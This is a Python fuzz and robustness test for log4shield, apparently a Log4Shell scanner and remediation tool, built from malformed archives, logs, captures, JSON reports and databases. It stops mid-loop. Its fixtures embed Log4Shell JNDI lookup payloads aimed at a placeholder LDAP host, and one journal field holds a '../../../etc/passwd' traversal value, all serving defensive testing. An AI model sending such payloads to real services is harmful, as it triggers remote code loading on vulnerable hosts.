#!/usr/bin/env python3
"""No input may abort a command.

Runs every log4shield command that reads input (scan, fix, restore, hunt and
hunt --pcap, report, fleet import/status/upload, canary --list, probe) on random
garbage, truncated valid inputs, type-confused and deeply nested JSON,
oversized inputs and empty files, and fails when a run ends by a signal
(exit code >= 128 or killed), hangs past its timeout, or fails without
naming the input it could not read.

Usage: no_abort.py BINARY SCRATCH_DIR [TIMEOUT_SCALE]   (ctest passes them;
SCRATCH_DIR is under the build folder and is wiped first; sanitizer builds
scale the per-run timeout). NO_ABORT_ONLY=TEXT runs only the runs whose name
holds TEXT.
"""
import bz2
import concurrent.futures
import gzip
import http.server
import io
import json
import lzma
import os
import random
import shutil
import sqlite3
import struct
import subprocess
import sys
import tarfile
import threading
import time
import zipfile

TIMEOUT = 40  # seconds per run (times the scale); a hang is a failure like a crash
HUGE = 100 << 20  # the oversized line
rng = random.Random(17)


def garbage(n):
    return bytes(rng.getrandbits(8) for _ in range(n)) if n < 4096 else rng.randbytes(n)


# ---------------------------------------------------------------- inputs


def class_bytes(strings, major=52):
    b = b"\xca\xfe\xba\xbe\x00\x00" + bytes([major >> 8, major & 255]) + b"\x00\x20"
    for s in strings:
        b += b"\x01" + s.encode()
    return b


def vulnerable_jar():
    """A synthetic log4j-core 2.x that scan reports vulnerable and fix can fix."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
        z.writestr("org/apache/logging/log4j/core/lookup/JndiLookup.class",
                   class_bytes(["JndiLookup", "LogEvent", "Error looking up JNDI resource [{}]."]))
        z.writestr("org/apache/logging/log4j/core/net/JndiManager.class",
                   class_bytes(["JndiManager", "javax/naming/Context", "AbstractManager",
                                "(Ljava/lang/String;Ljavax/naming/Context;)V"]))
        z.writestr("org/apache/logging/log4j/core/Other.class", class_bytes(["Other"]) * 50)
    return out.getvalue()


def zip_of(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (2021, 12, 10, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


def tar_of(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def patched(data, at, fmt, value):
    b = bytearray(data)
    struct.pack_into(fmt, b, at, value)
    return bytes(b)


def zip_variants(good):
    """Crafted damage to a zip: the central directory lies, data is cut or flipped."""
    eocd = good.rfind(b"PK\x05\x06")
    cd = struct.unpack_from("<I", good, eocd + 16)[0]
    out = {
        "cut10": good[: len(good) // 10],
        "cut50": good[: len(good) // 2],
        "cut_eocd": good[:-5],
        "no_central_dir": good[:cd],
        "cd_comp_huge": patched(good, cd + 20, "<I", 0xFFFFFFFF),
        "cd_size_huge": patched(good, cd + 24, "<I", 0xFFFFFFFF),
        "cd_local_offset_past_end": patched(good, cd + 42, "<I", 0x7FFFFFF0),
        "cd_name_len_huge": patched(good, cd + 28, "<H", 0xFFFF),
        "eocd_cd_offset_zero": patched(good, eocd + 16, "<I", 0),
        "eocd_cd_size_huge": patched(good, eocd + 12, "<I", 0xFFFFFFF0),
        "eocd_entries_huge": patched(patched(good, eocd + 10, "<H", 0xFFFF), eocd + 8, "<H", 0xFFFF),
        "zip64_marker": patched(good, eocd + 16, "<I", 0xFFFFFFFF),
        "prefixed_cut": b"#!/bin/sh\nexec java -jar $0\n" + good[: len(good) * 3 // 4],
    }
    flipped = bytearray(good)
    for i in range(30, cd, max(1, cd // 40)):
        flipped[i] ^= 0x5A
    out["flipped_data"] = bytes(flipped)
    return out


def gzip_members(data):
    return gzip.compress(data, mtime=0)


def zst(data, scratch):
    if not shutil.which("zstd"):
        return None
    return subprocess.run(["zstd", "-q", "-c"], input=data, stdout=subprocess.PIPE, check=True).stdout


def compressions(data, scratch):
    out = {"gz": gzip_members(data), "bz2": bz2.compress(data), "xz": lzma.compress(data)}
    z = zst(data, scratch)
    if z is not None:
        out["zst"] = z
    return out


def damaged(name, data):
    """Truncated and corrupted forms of one compressed stream."""
    flipped = bytearray(data)
    for i in range(len(data) // 3, len(data) * 2 // 3, 7):
        flipped[i] ^= 0xA5
    return {
        f"{name}.trunc_header": data[:8],  # past the magic bytes, inside the header
        f"{name}.trunc_half": data[: len(data) // 2],
        f"{name}.trunc_end": data[:-3],
        f"{name}.corrupt": bytes(flipped),
        f"{name}.trailing_garbage": data + garbage(300),
    }


def ethernet_http(payload, seq=1000):
    tcp = struct.pack(">HHIIBBHHH", 40000, 80, seq, 0, 5 << 4, 0x18, 65535, 0, 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0,
                     bytes([198, 51, 100, 7]), bytes([10, 0, 0, 5])) + tcp
    return b"\x00\x11\x22\x33\x44\x55\x66\x77\x88\x99\xaa\xbb\x08\x00" + ip


def pcap_file(frames):
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
    for i, f in enumerate(frames):
        out += struct.pack("<IIII", 1639100000 + i, 0, len(f), len(f)) + f
    return out


def pcapng_file(frames):
    def block(kind, body):
        body += b"\x00" * (-len(body) % 4)
        n = 12 + len(body)
        return struct.pack("<II", kind, n) + body + struct.pack("<I", n)

    out = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
    out += block(1, struct.pack("<HHI", 1, 0, 65535))
    for i, f in enumerate(frames):
        out += block(6, struct.pack("<IIIII", 0, 0, i, len(f), len(f)) + f)
    return out


class Inputs:
    def __init__(self, root, binary):
        self.root = root
        self.binary = binary
        os.makedirs(root, exist_ok=True)

    def write(self, rel, data):
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        return path


# ---------------------------------------------------------------- runs


class Quiet(http.server.BaseHTTPRequestHandler):
    """The target `probe` sends its harmless payloads to: 200, nothing logged."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


class Run:
    def __init__(self, name, argv, names=None, must_fail=False, stdin=None, cwd=None):
        self.name = name
        self.argv = argv
        self.names = names  # a path the output must mention when the run fails
        self.must_fail = must_fail
        self.stdin = stdin
        self.cwd = cwd


def execute(run, logdir, index):
    out_path = os.path.join(logdir, f"{index}.out")
    err_path = os.path.join(logdir, f"{index}.err")
    started = time.monotonic()
    # Parsing 100 MB of JSON takes 5-11 s alone; a loaded CI machine needs slack.
    timeout = TIMEOUT * (4 if "huge_line" in run.name else 1)
    with open(out_path, "wb") as out, open(err_path, "wb") as err:
        stdin = open(run.stdin, "rb") if run.stdin else subprocess.DEVNULL
        try:
            p = subprocess.run(run.argv, stdin=stdin, stdout=out, stderr=err, timeout=timeout, cwd=run.cwd)
            rc = p.returncode
        except subprocess.TimeoutExpired:
            rc = None
        finally:
            if run.stdin:
                stdin.close()
    seconds = time.monotonic() - started
    problems = []
    if rc is None:
        problems.append(f"did not finish in {timeout} s")
    elif rc < 0 or rc >= 128:
        problems.append(f"ended by a signal (exit {rc})")
    else:
        text = b""
        for path in (out_path, err_path):
            with open(path, "rb") as f:
                text += f.read(8 << 20)
        if run.must_fail and rc == 0:
            problems.append("succeeded on an input it cannot have read")
        failed = rc not in (0, 1) or run.must_fail
        if failed and run.names and os.path.basename(run.names).encode() not in text:
            problems.append(f"exit {rc} without naming {os.path.basename(run.names)}")
    return run, rc, seconds, problems, err_path


# ---------------------------------------------------------------- the cases


def json_cases():
    """Reports that are not: type confusion, nesting, numbers, shapes."""
    deep = "[" * 100000
    return {
        "type_number.jsonl": '{"type":1}\n',
        "type_scan_findings_string.json": '{"type":"scan","findings":"x"}',
        "findings_string.json": '{"findings":"x"}',
        "findings_mixed.json": '{"findings":[1,"a",null,[],{"path":1,"status":[],"cves":"x"}]}',
        "findings_fields_confused.json": '{"findings":[{"path":{},"cves":[1],"evidence":{},"process":[]}],'
                                         '"errors":{"a":1},"stats":[],"tool":"x","roots":"r"}',
        "array_top.json": '[{"type":"finding"},{"findings":[]}]',
        "array_lines.jsonl": '[]\n[{"type":"finding"}]\n',
        "string_top.json": '"findings"',
        "number_1e400.json": '{"findings":[],"stats":{"files":1e400,"seconds":-1e400}}',
        "number_huge_jsonl.jsonl": '{"type":"detection","line":1e300,"offset":-1e300,"file":"f"}\n'
                                   '{"type":"summary","stats":{"files":18446744073709551615,"errors":-1}}\n',
        "number_1e400_line.jsonl": '{"type":"finding","process":{"pid":1e400}}\n',
        "probe_numbers.jsonl": '{"type":"target","target":"http://x","sent":1e300,"hits":-1e300,"vulnerable":1}\n'
                               '{"type":"hit","target":"http://x","callbacks":{"time":1}}\n',
        "canary_confused.jsonl": '{"protocol":1,"peer":[],"extras":{"a":[1]},"time":1e400}\n',
        "canary_confused2.jsonl": '{"protocol":[[[]]],"peer":{"x":' + "[" * 1000 + "]" * 1000 + "}}\n",
        "hunt_confused.jsonl": '{"type":"detection","jndi_targets":[1,{"port":"x","host":[]}],"layers":{},'
                               '"techniques":"t","jndi":[]}\n{"type":"summary","tool":1}\n',
        "hunt_doc_confused.json": '{"detections":"x","host":[],"started":{}}',
        "hunt_doc_mixed.json": '{"detections":[1,null,{"line":"x","jndi_targets":[[]]}]}',
        "deep_array.json": deep,
        "deep_array_closed.json": deep + "]" * 100000,
        "deep_findings.json": '{"findings":' + deep + "]" * 100000 + "}",
        "deep_findings_member.json": '{"findings":[{"path":' + deep + "]" * 100000 + "}]}",
        "deep_detection.jsonl": '{"type":"detection","x":' + deep + "]" * 100000 + "}\n",
        "deep_type.jsonl": '{"type":' + deep + "]" * 100000 + "}\n",
        "deep_canary.jsonl": '{"protocol":"ldap","peer":"p","extras":' + deep + "]" * 100000 + "}\n",
        "deep_objects.json": '{"a":' * 100000 + "1" + "}" * 100000,
        "deep_detections.json": '{"detections":[{"layers":[' + deep + "]" * 100000 + "]}]}",
        "unicode.jsonl": '{"type":"finding","path":"\\ud800\\udfff\\u0000\xff","status":"vulnerable"}\n',
        "invalid_utf8.json": '{"findings":[{"path":"\udcff"}]}',
        "mixed_kinds.jsonl": '{"type":"finding"}\n{"type":"detection"}\n{"type":"hit"}\n',
        "nul_bytes.json": '{"findings":[{"path":"a\\u0000b"}]}\x00\x00',
        "unknown_type.jsonl": '{"type":"finding"}\n{"type":"bogus"}\n',
        "bom.json": '\ufeff{"findings":[]}',
    }


def build_cases(inp, bin_, target_url):
    runs = []
    S = inp.root
    out_dir = os.path.join(S, "out")
    os.makedirs(out_dir, exist_ok=True)
    jar = vulnerable_jar()
    log = (b"10.0.0.1 - - [10/Dec/2021:12:34:56 +0100] \"GET /${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\" 200 1\n"
           b"plain line \x00\xff\xfe with NUL and invalid UTF-8\n") * 400

    # Blobs every reader gets.
    blobs = {
        "empty": b"",
        "garbage": garbage(64 << 10),
        "garbage_lines": b"\n".join(garbage(rng.randrange(1, 200)) for _ in range(2000)),
        "one_byte": b"{",
    }
    blob_paths = {k: inp.write(f"blobs/{k}", v) for k, v in blobs.items()}
    huge = inp.write("blobs/huge_line", b'{"type":"finding","path":"' + b"A" * HUGE + b'${jndi:ldap://x/a}"}\n')

    # Valid reports produced by the binary, then truncated.
    app = os.path.join(S, "reports-app")
    os.makedirs(app, exist_ok=True)
    inp.write("reports-app/log4j-core.jar", jar)
    inp.write("reports-app/app.log", log[:2000])
    reports = {}
    for kind, argv in {
        "scan.json": ["scan", "--quiet", "-f", "json", app],
        "scan.jsonl": ["scan", "--quiet", "-f", "jsonl", app],
        "hunt.json": ["hunt", "-f", "json", app],
        "hunt.jsonl": ["hunt", "-f", "jsonl", app],
        "fix.json": ["fix", "--dry-run", "--quiet", "-f", "json", "--backup-dir", os.path.join(S, "bk-gen"), app],
    }.items():
        p = subprocess.run([bin_] + argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=60)
        reports[kind] = p.stdout
    reports["canary.jsonl"] = (b'{"time":"2021-12-10T12:00:00Z","protocol":"ldap","peer":"10.0.0.5:4444",'
                               b'"listener":"127.0.0.1:1389","token":"abc","name":"abc/x","extras":["v"],"detail":"d"}\n')
    reports["probe.jsonl"] = (b'{"type":"hit","target":"http://app:8080/","point":"header:X-Api","variant":"ldap",'
                              b'"callbacks":[{"time":"2021-12-10T12:00:01Z"}]}\n'
                              b'{"type":"target","target":"http://app:8080/","vulnerable":true,"sent":3,"hits":1}\n')
    report_inputs = {}
    for kind, data in reports.items():
        report_inputs[f"valid.{kind}"] = inp.write(f"reports/valid.{kind}", data)
        for cut_name, cut in (("half", len(data) // 2), ("end", len(data) - 3), ("first_byte", 1)):
            report_inputs[f"trunc_{cut_name}.{kind}"] = inp.write(f"reports/trunc_{cut_name}.{kind}", data[:cut])
    for name, text in json_cases().items():
        report_inputs[name] = inp.write(f"reports/{name}", text.encode("utf-8", "surrogateescape"))
    for k, p in blob_paths.items():
        report_inputs[k] = p

    for name, path in report_inputs.items():
        broken = not name.startswith("valid.")
        runs.append(Run(f"fix --from {name}",
                        [bin_, "fix", "--dry-run", "--quiet", "--threads", "1", "-f", "json", "-o", os.devnull,
                         "--backup-dir", os.path.join(S, "bk-from"), "--from", path], names=path))
        runs.append(Run(f"fleet import {name}",
                        [bin_, "fleet", "import", "--quiet", "--db", os.path.join(out_dir, f"import-{name}.db"), path],
                        names=path, must_fail=name in blob_paths))
        runs.append(Run(f"report {name}", [bin_, "report", "-o", os.path.join(out_dir, f"{name}.html"), path],
                        names=path))
        if not broken or name.startswith("deep") or name.startswith("number"):
            runs.append(Run(f"report sarif {name}", [bin_, "report", "-f", "sarif", "-o", os.devnull, path],
                            names=path))
    # fleet upload reads each file as fleet import does before sending it
    # (to the probe target, which answers 200 to anything).
    token = inp.write("reports/upload.token", b"tok\n")
    for name, path in report_inputs.items():
        runs.append(Run(f"fleet upload {name}",
                        [bin_, "fleet", "upload", "--quiet", "--server", target_url, "--token-file", token,
                         "--attempts", "1", path], names=path))
    for name, argv in (("fleet import", [bin_, "fleet", "import", "--quiet", "--db", os.path.join(out_dir, "huge.db")]),
                       ("fix --from", [bin_, "fix", "--dry-run", "--quiet", "-o", os.devnull, "--backup-dir",
                                       os.path.join(S, "bk-from"), "--from"])):
        runs.append(Run(f"{name} huge_line", argv + [huge], names=huge))
    runs.append(Run("fleet import - (garbage on stdin)", [bin_, "fleet", "import", "--db",
                                                            os.path.join(out_dir, "stdin.db"), "-"],
                    stdin=blob_paths["garbage"]))

    # Archives for scan and fix.
    good_zip = zip_of([("WEB-INF/lib/log4j-core.jar", jar), ("index.html", b"<html/>" * 100)],
                      method=zipfile.ZIP_STORED)
    archives = {"log4j-core.jar": jar, "app.war": good_zip}
    for k, v in zip_variants(jar).items():
        archives[f"jar_{k}.jar"] = v
    for k, v in zip_variants(good_zip).items():
        archives[f"war_{k}.war"] = v
    inner_cut = zip_of([("WEB-INF/lib/log4j-core.jar", jar[: len(jar) // 2])], method=zipfile.ZIP_STORED)
    archives["war_inner_truncated.war"] = inner_cut
    archives["war_inner_garbage.war"] = zip_of([("lib/x.jar", b"PK\x03\x04" + garbage(500))])
    overlap = bytearray(zip_of([("a.jar", jar), ("b.jar", jar)], method=zipfile.ZIP_STORED))
    eocd = overlap.rfind(b"PK\x05\x06")
    cd = struct.unpack_from("<I", overlap, eocd + 16)[0]
    second = overlap.find(b"PK\x01\x02", cd + 4)
    struct.pack_into("<I", overlap, second + 42, 0)  # both entries at offset 0
    archives["overlapping_entries.zip"] = bytes(overlap)
    tar = tar_of([("opt/app/log4j-core.jar", jar), ("opt/app/app.log", log[:3000])])
    archives["app.tar"] = tar
    archives["tar_cut_header.tar"] = tar[:100]
    archives["tar_cut_member.tar"] = tar[:1200]
    archives["tar_size_garbage.tar"] = tar[:124] + b"77777777777\x00" + tar[136:]
    archives["tar_checksum_bad.tar"] = tar[:148] + b"0000000\x00" + tar[156:]
    for ext, data in compressions(tar, S).items():
        for k, v in damaged(f"app.tar.{ext}", data).items():
            archives[k] = v
    # docker save layouts with hostile manifests.
    layer = tar_of([("opt/log4j-core.jar", jar)])

    def image(manifest, config=b'{"config":{}}', layer_data=layer):
        return tar_of([("manifest.json", manifest), ("cfg.json", config), ("l1/layer.tar", layer_data)])

    good_manifest = b'[{"Config":"cfg.json","RepoTags":["app:1"],"Layers":["l1/layer.tar"]}]'
    images = {
        "image_ok.tar": image(good_manifest),
        "image_manifest_garbage.tar": image(garbage(300)),
        "image_manifest_confused.tar": image(b'[{"Config":1,"RepoTags":"x","Layers":{"a":1}},2,"s"]'),
        "image_manifest_object.tar": image(b'{"Config":"cfg.json","Layers":[1e400]}'),
        "image_manifest_deep.tar": image(b"[" * 100000 + b"]" * 100000),
        "image_config_deep.tar": image(good_manifest, config=b'{"a":' * 100000 + b"1" + b"}" * 100000),
        "image_layer_truncated.tar": image(good_manifest, layer_data=layer[:700]),
        "image_layer_garbage.tar": image(good_manifest, layer_data=garbage(2048)),
        "image_layer_missing.tar": tar_of([("manifest.json", good_manifest), ("cfg.json", b"{}")]),
    }
    archives.update(images)
    archives["empty.jar"] = b""
    archives["garbage.jar"] = garbage(8192)
    archives["pk_garbage.jar"] = b"PK\x03\x04" + garbage(8192)
    scan_dir = os.path.join(S, "scan")
    for name, data in archives.items():
        inp.write(f"scan/{name}", data)
    oci = os.path.join(S, "oci")
    inp.write("oci/oci-layout", b'{"imageLayoutVersion":"1.0.0"}')
    inp.write("oci/index.json", b'{"manifests":[{"digest":1}],"x":' + b"[" * 100000 + b"]" * 100000 + b"}")
    oci2 = os.path.join(S, "oci2")
    inp.write("oci2/oci-layout", b'{"imageLayoutVersion":"1.0.0"}')
    inp.write("oci2/index.json", b'{"manifests":[{"digest":"sha256:' + b"0" * 64 + b'","mediaType":'
              b'"application/vnd.oci.image.manifest.v1+json"}]}')
    inp.write("oci2/blobs/sha256/" + "0" * 64, garbage(100))

    for name in archives:
        path = os.path.join(scan_dir, name)
        runs.append(Run(f"scan {name}", [bin_, "scan", "--quiet", "--threads", "1", "-f", "jsonl", path],
                        names=path, must_fail=name.startswith(("jar_cut", "jar_no_central", "tar_cut_member"))))
        if name.startswith("image_"):
            runs.append(Run(f"scan --image {name}", [bin_, "scan", "--quiet", "--threads", "1", "-f", "jsonl",
                                                     "--image", path], names=path))
        # fix on scratch copies: the dry run proves its plan, the real one rewrites.
        for mode in ("dry", "real"):
            copy_dir = os.path.join(S, f"fix-{mode}", name)
            os.makedirs(copy_dir, exist_ok=True)
            target = os.path.join(copy_dir, name)
            shutil.copyfile(path, target)
            argv = [bin_, "fix", "--quiet", "--threads", "1", "-f", "jsonl", "--backup-dir",
                    os.path.join(S, f"bk-{mode}"), target]
            if mode == "dry":
                argv.insert(2, "--dry-run")
            runs.append(Run(f"fix {mode} {name}", argv, names=target))
    for d in (oci, oci2):
        runs.append(Run(f"scan --image {os.path.basename(d)}",
                        [bin_, "scan", "--quiet", "--threads", "1", "-f", "jsonl", "--image", d], names=d))
        runs.append(Run(f"scan {os.path.basename(d)}", [bin_, "scan", "--quiet", "--threads", "1", "-f", "jsonl", d],
                        names=d))
    runs.append(Run("scan huge_line", [bin_, "scan", "--quiet", "--threads", "1", "-f", "jsonl", huge], names=huge))
    runs.append(Run("fix --dry-run huge_line", [bin_, "fix", "--dry-run", "--quiet", "--threads", "1", "--backup-dir",
                                                 os.path.join(S, "bk-dry"), huge], names=huge))

    # Logs for hunt: every compression, damaged; zips of them; captures.
    logs = {"plain.log": log, "huge_line.log": None}
    for ext, data in compressions(log, S).items():
        logs[f"app.log.{ext}"] = data
        for k, v in damaged(f"app.log.{ext}", data).items():
            logs[k] = v
    gz = gzip_members(log)
    logs["multi_member_then_garbage.gz"] = gz + gz + b"\x1f\x8b\x08\x00" + garbage(100)
    logs["gzip_header_only.gz"] = gz[:10]
    logs["gzip_bad_flags.gz"] = gz[:3] + b"\xff" + gz[4:]
    logs["zip_of_damaged.zip"] = zip_of([("a.log.gz", gz[: len(gz) // 2]), ("b.log.bz2", bz2.compress(log)[:200]),
                                         ("c.log", log[:500]), ("d.pcap", pcap_file([ethernet_http(b"GET /")])[:50])])
    logs["zip_of_zip_cut.zip"] = zip_of([("inner.zip", zip_of([("a.log", log)])[:300])], method=zipfile.ZIP_STORED)
    for k, v in zip_variants(zip_of([("a.log", log), ("b.log.gz", gz)])).items():
        logs[f"logs_{k}.zip"] = v
    frames = [ethernet_http(b"GET /${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: x\r\n\r\n", seq=1000 + i)
              for i in range(20)]
    pcap = pcap_file(frames)
    pcapng = pcapng_file(frames)
    caps = {
        "ok.pcap": pcap, "ok.pcapng": pcapng,
        "pcap_cut_header.pcap": pcap[:20], "pcap_cut_record.pcap": pcap[: len(pcap) // 2 + 7],
        "pcap_caplen_huge.pcap": patched(pcap, 24 + 8, "<I", 0xFFFFFFF0),
        "pcap_garbage_after_magic.pcap": pcap[:24] + garbage(4000),
        "pcap_bad_linktype.pcap": patched(pcap, 20, "<I", 0xFFFF),
        "pcap_snaplen_zero.pcap": patched(pcap, 16, "<I", 0),
        "pcapng_cut.pcapng": pcapng[: len(pcapng) // 2 + 3],
        "pcapng_block_len_zero.pcapng": patched(pcapng, 28 + 4, "<I", 0),
        "pcapng_block_len_huge.pcapng": patched(pcapng, 28 + 4, "<I", 0xFFFFFFF0),
        "pcapng_garbage_after_shb.pcapng": pcapng[:28] + garbage(4000),
        "pcapng_bad_iface.pcapng": pcapng[:48] + patched(pcapng[48:], 8, "<I", 7),
    }
    for k, v in compressions(pcap, S).items():
        caps[f"ok.pcap.{k}"] = v
        caps[f"cut.pcap.{k}"] = v[: len(v) // 2]
    hunt_dir = os.path.join(S, "hunt")
    for name, data in logs.items():
        path = huge if data is None else inp.write(f"hunt/{name}", data)
        damaged_input = any(s in name for s in ("trunc_", "corrupt", "header_only", "bad_flags", "_cut10", "cut50"))
        runs.append(Run(f"hunt {name}", [bin_, "hunt", "--threads", "1", "-f", "jsonl", path], names=path,
                        must_fail=damaged_input and not name.endswith(".zip")))
    for name, data in caps.items():
        path = inp.write(f"hunt/{name}", data)
        runs.append(Run(f"hunt --pcap {name}", [bin_, "hunt", "--pcap", "--threads", "1", "-f", "jsonl", path],
                        names=path))
        runs.append(Run(f"hunt {name}", [bin_, "hunt", "--threads", "1", "-f", "jsonl", path], names=path))
    for name, path in blob_paths.items():
        runs.append(Run(f"hunt --pcap {name}", [bin_, "hunt", "--pcap", "-f", "jsonl", path], names=path,
                        must_fail=True))
        runs.append(Run(f"hunt {name}", [bin_, "hunt", "-f", "jsonl", path], names=path))
    for name in ("app.log.gz.trunc_half", "app.log.bz2.corrupt", "app.log.xz.trunc_end", "app.log.zst.trunc_half",
                 "multi_member_then_garbage.gz"):
        path = os.path.join(hunt_dir, name)
        if os.path.exists(path):
            runs.append(Run(f"hunt - < {name}", [bin_, "hunt", "-f", "jsonl", "-"], stdin=path, must_fail=True))
    for name in ("pcap_cut_record.pcap", "pcapng_cut.pcapng", "pcap_caplen_huge.pcap"):
        runs.append(Run(f"hunt --pcap - < {name}", [bin_, "hunt", "--pcap", "-f", "jsonl", "-"],
                        stdin=os.path.join(hunt_dir, name)))
    runs.append(Run("hunt --pcap - < garbage", [bin_, "hunt", "--pcap", "-f", "jsonl", "-"],
                    stdin=blob_paths["garbage"], must_fail=True))
    runs.append(Run("hunt - < huge_line", [bin_, "hunt", "-f", "jsonl", "-"], stdin=huge))

    # restore: garbage journals, damaged backups of a real fix.
    rdir = os.path.join(S, "restore")
    os.makedirs(os.path.join(rdir, "app"), exist_ok=True)
    inp.write("restore/app/log4j-core.jar", jar)
    bk = os.path.join(rdir, "bk")
    subprocess.run([bin_, "fix", "--quiet", "--backup-dir", bk, os.path.join(rdir, "app")], stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=60)
    target = os.path.join(rdir, "app", "log4j-core.jar")
    journal_lines = [
        "[]", "1", '"x"', '{"path":1,"action":[]}', '{"action":"fix","path":"' + target + '","original_sha256":1}',
        '{"action":"fix","path":"' + target + '","original_sha256":"' + "z" * 64 + '","original_size":1e400,'
        '"mode":-1,"uid":1e300}',
        '{"action":"fix","path":"' + target + '","original_sha256":"../../../etc/passwd","removed":{}}',
        '{"action":"restore","path":"' + target + '","x":' + "[" * 100000 + "]" * 100000 + "}",
        "[" * 100000,
    ]
    journals = {
        "journal_garbage": garbage(10000),
        "journal_confused": ("\n".join(journal_lines) + "\n").encode(),
        "journal_empty": b"",
    }
    for name, data in journals.items():
        d = os.path.join(rdir, name)
        os.makedirs(d, exist_ok=True)
        jpath = inp.write(f"restore/{name}/journal.jsonl", data)
        runs.append(Run(f"restore --backup-dir {name}", [bin_, "restore", "--backup-dir", d], names=jpath))
        runs.append(Run(f"restore --journal {name}", [bin_, "restore", "--dry-run", "--journal", jpath], names=jpath))
    runs.append(Run("restore --journal huge_line", [bin_, "restore", "--dry-run", "--journal", huge], names=huge))
    runs.append(Run("restore --journal dir", [bin_, "restore", "--journal", rdir], names=rdir))
    runs.append(Run("restore --backup-dir missing", [bin_, "restore", "--backup-dir", os.path.join(rdir, "none")]))
    if os.path.isdir(bk):
        for how in ("truncated", "garbage", "missing"):
            d = os.path.join(rdir, f"bk_{how}")
            shutil.copytree(bk, d)
            for dirpath, _, files in os.walk(d):
                for f in files:
                    p = os.path.join(dirpath, f)
                    if f == "journal.jsonl" or f.startswith("."):
                        continue
                    if how == "missing":
                        os.unlink(p)
                    else:
                        data = open(p, "rb").read()
                        open(p, "wb").write(data[: len(data) // 2] if how == "truncated" else garbage(len(data)))
            runs.append(Run(f"restore from {how} backups", [bin_, "restore", "--dry-run", "--backup-dir", d]))
            runs.append(Run(f"restore from {how} backups (real)", [bin_, "restore", "--backup-dir", d]))

    # Stores: garbage files, truncated databases, hostile values in every column.
    store_dir = os.path.join(S, "stores")
    os.makedirs(store_dir, exist_ok=True)
    fleet_db = os.path.join(store_dir, "fleet.db")
    for kind in ("scan.json", "hunt.jsonl", "canary.jsonl", "probe.jsonl", "fix.json"):
        subprocess.run([bin_, "fleet", "import", "--quiet", "--host", "h1", "--db", fleet_db,
                        report_inputs[f"valid.{kind}"]], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       timeout=60)
    canary_db = os.path.join(store_dir, "canary.db")
    subprocess.run([bin_, "canary", "--list", "--db", canary_db], stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=60)
    with sqlite3.connect(canary_db) as c:
        c.execute("INSERT INTO callbacks(time_ms,protocol,peer,listener,token,name,extras,detail) "
                  "VALUES(1,'ldap','p','l','t','n','[\"a\"]','d')")
        c.execute("INSERT INTO probes VALUES('t','r',1,'http://x','p','v','pl',200,'')")
    hostile_values = {
        "text": "x", "deep": "[" * 100000, "deep_closed": "[" * 100000 + "]" * 100000,
        "huge_number": "1e400", "negative": -9223372036854775808, "float": 1.5e300,
        "blob": sqlite3.Binary(b"\xff\x00\xfe"), "null": None, "empty": "",
        "json_confused": '{"a":[1,{"b":null}]}',
    }

    def poisoned(src, tag, value):
        dst = os.path.join(store_dir, f"{os.path.basename(src)}.{tag}.db")
        shutil.copyfile(src, dst)
        with sqlite3.connect(dst) as c:
            tables = [r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type='table' "
                                               "AND name NOT LIKE 'sqlite_%'")]
            c.execute("PRAGMA foreign_keys=OFF")
            for t in tables:
                for col in [r[1] for r in c.execute(f"PRAGMA table_info({t})")]:
                    try:
                        c.execute(f'UPDATE "{t}" SET "{col}" = ?', (value,))
                    except sqlite3.Error:
                        pass  # a constraint refuses it: the store cannot hold it either
        return dst

    dbs = {}
    if os.path.exists(fleet_db):
        for tag, value in hostile_values.items():
            dbs[f"fleet.{tag}"] = poisoned(fleet_db, tag, value)
        data = open(fleet_db, "rb").read()
        dbs["fleet.truncated"] = inp.write("stores/fleet_truncated.db", data[: len(data) // 2])
        dbs["fleet.header_garbage"] = inp.write("stores/fleet_header_garbage.db", data[:100] + garbage(len(data) - 100))
    canary_dbs = {}
    if os.path.exists(canary_db):
        for tag, value in hostile_values.items():
            canary_dbs[f"canary.{tag}"] = poisoned(canary_db, tag, value)
        data = open(canary_db, "rb").read()
        canary_dbs["canary.truncated"] = inp.write("stores/canary_truncated.db", data[: len(data) // 2])
    for k in ("garbage", "empty", "one_byte"):
        dbs[k] = canary_dbs[k] = inp.write(f"stores/{k}.db", blobs[k])
    for name, db in dbs.items():
        runs.append(Run(f"fleet status --db {name}", [bin_, "fleet", "status", "--db", db], names=db))
        runs.append(Run(f"report --db {name}", [bin_, "report", "--db", db, "-o", os.path.join(out_dir, f"{name}.html")],
                        names=db))
        if name.endswith(("text", "json_confused", "blob", "float", "garbage")):  # every sink, on a few
            runs.append(Run(f"fleet status -f json --db {name}",
                            [bin_, "fleet", "status", "-f", "json", "-o", os.devnull, "--db", db], names=db))
            for fmt in ("stix", "sarif", "cyclonedx", "misp-csv"):
                runs.append(Run(f"report -f {fmt} --db {name}",
                                [bin_, "report", "-f", fmt, "--db", db, "-o", os.devnull], names=db))
        copy = os.path.join(store_dir, f"import-into-{name}.db")
        shutil.copyfile(db, copy)
        runs.append(Run(f"fleet import into {name}", [bin_, "fleet", "import", "--db", copy,
                                                       report_inputs["valid.scan.json"]], names=copy))
    for name, db in canary_dbs.items():
